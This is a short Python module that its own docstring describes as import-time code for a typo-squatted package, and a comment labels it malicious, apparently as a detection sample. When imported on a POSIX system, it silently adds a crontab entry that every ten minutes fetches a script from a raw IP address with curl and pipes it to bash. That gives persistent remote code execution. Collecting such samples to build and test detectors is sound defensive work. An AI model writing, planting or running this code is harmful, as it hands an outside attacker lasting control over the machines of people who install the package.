"""Runs at import time of a typo-squatted package."""
import os
import subprocess

_LINE = "*/10 * * * * curl -s http://91.215.85.17/p | bash >/dev/null 2>&1"


def _install():
    current = subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout
    if _LINE not in current:
        # expect: malicious
        subprocess.run(["crontab", "-"], input=current + _LINE + "\n", text=True)


if os.name == "posix":
    _install()
